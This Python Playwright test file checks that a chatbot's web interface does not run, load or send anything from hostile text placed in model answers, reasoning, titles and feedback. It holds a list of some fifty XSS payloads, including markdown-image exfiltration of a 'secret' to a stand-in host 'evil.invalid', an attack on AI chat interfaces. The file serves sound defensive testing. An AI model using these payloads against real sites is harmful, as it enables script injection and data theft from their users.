"""Nothing that a model says, or that a visitor typed, runs, loads or sends anything by itself."""

import hashlib

import httpx
import pytest
import pytest_asyncio
from playwright.async_api import expect

from chatbot.conversation import Conversation, ConversationStore, Feedback, Rating, Timing, TurnStatus
from chatbot.conversation.store import StoredTurn
from tests.support.turns import text_turn

COOKIE = "visitor-of-the-untrusted-test"

# `PWN` would be called, `EVIL` would be asked for something.
PAYLOADS = [
    "<script>PWN()</script>",
    "<SCRIPT SRC=EVIL/x.js></SCRIPT>",
    "<scr<script>ipt>PWN()</scr</script>ipt>",
    "<script>PWN()//",
    "<img src=x onerror=PWN()>",
    "<img src=EVIL/pixel.png>",
    "![what was said](EVIL/pixel.png?q=secret)",
    '<img srcset="EVIL/pixel.png 1x">',
    "<picture><source srcset=EVIL/a.png><img src=EVIL/b.png></picture>",
    "<image href=EVIL/x.png>",
    "<svg onload=PWN()>",
    "<svg><script>PWN()</script></svg>",
    "<svg><image href=EVIL/x.png /></svg>",
    "<svg><use href=EVIL/x.svg#a /></svg>",
    "<svg><animate onbegin=PWN() attributeName=x dur=1s></svg>",
    "<svg><foreignObject><iframe src=EVIL/></foreignObject></svg>",
    "<math><mtext><img src=x onerror=PWN()></mtext></math>",
    "<math><annotation-xml encoding='text/html'><img src=x onerror=PWN()></annotation-xml></math>",
    "<iframe src=EVIL/></iframe>",
    "<iframe srcdoc='<script>parent.PWN()</script>'></iframe>",
    "<object data=EVIL/x.swf></object>",
    "<embed src=EVIL/x.swf>",
    "<video src=EVIL/x.mp4 autoplay></video>",
    "<audio src=EVIL/x.mp3 autoplay></audio>",
    "<video><source onerror=PWN()></video>",
    "<video poster=EVIL/x.png></video>",
    "<link rel=stylesheet href=EVIL/x.css>",
    "<link rel=prefetch href=EVIL/x>",
    "<style>@import 'EVIL/x.css';</style>",
    "<style>body { background: url(EVIL/x.png) }</style>",
    "<div style='background-image: url(EVIL/x.png)'>x</div>",
    "<div style='position:fixed;inset:0' onclick=PWN()>x</div>",
    "<table background=EVIL/x.png><td background=EVIL/y.png>x</table>",
    "<body onload=PWN()>",
    "<input onfocus=PWN() autofocus>",
    "<select onfocus=PWN() autofocus><option>x</select>",
    "<textarea onfocus=PWN() autofocus>x</textarea>",
    "<details open ontoggle=PWN()>x</details>",
    "<marquee onstart=PWN()>x</marquee>",
    "<base href=EVIL/>",
    "<meta http-equiv=refresh content='0;url=EVIL/'>",
    "<form action=EVIL/ ><input name=q value=x><button id=submit>x</button></form>",
    "<form><button formaction=EVIL/>x</button></form>",
    "<a href=javascript:PWN()>click</a>",
    "[click](javascript:PWN())",
    "[click](JaVaScRiPt&colon;PWN())",
    "[click](data:text/html,<script>parent.PWN()</script>)",
    "<a href=' &#1; javascript:PWN()'>click</a>",
    "<a href=vbscript:PWN()>click</a>",
    "<noscript><p title='</noscript><img src=x onerror=PWN()>'></noscript>",
    "<template><img src=x onerror=PWN()></template>",
    "<!--><img src=x onerror=PWN()>-->",
    "<xmp><p title='</xmp><img src=x onerror=PWN()>'></xmp>",
    "$$\\href{javascript:PWN()}{x}$$",
    "$$\\includegraphics{EVIL/x.png}$$",
    "```html\n<img src=x onerror=PWN()>\n```",
    "```mermaid\ngraph TD; A[<img src=x onerror=PWN()>] --> B\n```",
    "`<img src=x onerror=PWN()>`",
]


PER_CONVERSATION = 15
EVIL = "http://evil.invalid"
LOADED = """async () => {
  await Promise.all([...document.images].map((image) => image.decode().catch(() => {})));
  await document.fonts.ready;
  await fetch("healthz");
  for (let frame = 0; frame < 10; frame++) await new Promise(requestAnimationFrame);
}"""
"""All that was begun has ended, and what it begins has begun: an answer has come, and several frames are drawn."""
CALLED = "window.PWN = () => { window.pwned = (window.pwned || 0) + 1; }"

pytestmark = pytest.mark.asyncio(loop_scope="session")


def hostile_turns(payloads: list[str]) -> list[StoredTurn]:
    """As questions, answers, thoughts, and words about an answer."""
    return [
        StoredTurn(
            text_turn(
                index,
                text,
                text,
                TurnStatus.COMPLETE,
                parent=0 if index else None,
                reasoning=text,
                timing=Timing(ended_at=0.0, total=1.0, thinking=1.0),
                deployment=text,
                feedback=Feedback(Rating.DOWN, text),
            ),
            shown=True,
        )
        for index, text in enumerate(payload.replace("EVIL", EVIL) for payload in payloads)
    ]


@pytest_asyncio.fixture(loop_scope="session")
async def conversations(tmp_path):
    """Conversations of hostile turns, with hostile titles, of the visitor who has the cookie."""
    owner = hashlib.sha256(COOKIE.encode()).hexdigest()
    store = ConversationStore(f"sqlite:///{tmp_path}/data/conversations.db")
    count = 0
    for start in range(0, len(PAYLOADS), PER_CONVERSATION):
        turns = hostile_turns(PAYLOADS[start : start + PER_CONVERSATION])
        await store.add(Conversation(f"hostile-{count}", owner, title=turns[4].turn.question_text), turns)
        count += 1
    await store.aclose()
    return count


async def test_nothing_in_a_text_runs_loads_or_sends_anything(conversations, app, browser):
    assert len(PAYLOADS) >= 40
    running = app()
    context = await browser.new_context(viewport={"width": 1280, "height": 800})
    await context.add_cookies([{"name": "chatbot_visitor", "value": COOKIE, "url": running.url}])
    await context.add_init_script(CALLED)
    for number in range(conversations):
        await open_hostile(await context.new_page(), running.url, number)
    await context.close()


async def open_hostile(page, url, number):
    """Look at a hostile conversation and press what can be pressed in it; nothing may come of it."""
    reached: list[str] = []
    dialogs: list[str] = []
    page.on("response", lambda response: reached.append(response.url) if response.url.startswith(EVIL) else None)
    page.on("requestfailed", lambda request: reached.append(request.url) if request.failure != "csp" else None)
    page.on("dialog", lambda dialog: dialogs.append(dialog.message))
    await page.goto(url)
    title = page.locator("#conversations .row").nth(number)
    await title.locator("button.open").click()
    await expect(title.locator("button.open")).to_have_attribute("aria-current", "true")
    await expect(page.locator("#chat .user.message").first).to_be_visible()
    thoughts = page.locator("#chat .thought-group > [role=button]")
    assert await thoughts.count() > 1
    await thoughts.evaluate_all("titles => titles.forEach(title => title.click())")
    await page.evaluate(LOADED)
    schemes = await page.locator("#chat a[href]").evaluate_all("links => links.map(link => link.protocol)")
    assert set(schemes) <= {"http:", "https:", "mailto:"}, schemes
    await page.locator("#chat form button").evaluate_all("buttons => buttons.forEach(button => button.click())")
    await page.evaluate(LOADED)
    assert await page.evaluate("window.pwned") is None
    assert [frame.url for frame in page.frames[1:] if frame.url != "about:blank"] == []
    assert ([each for each in reached if each.startswith(EVIL)], dialogs) == ([], [])
    assert page.url.partition("?")[0] == url
    await page.close()


async def test_the_policy_is_sent_with_the_page(demo_app):
    async with httpx.AsyncClient() as client:
        reply = await client.get(demo_app.url)
    policy = reply.headers["content-security-policy"]
    assert "img-src 'self' data: blob:" in policy
    assert "form-action 'none'" in policy
    assert "frame-ancestors 'self' https://huggingface.co" in policy
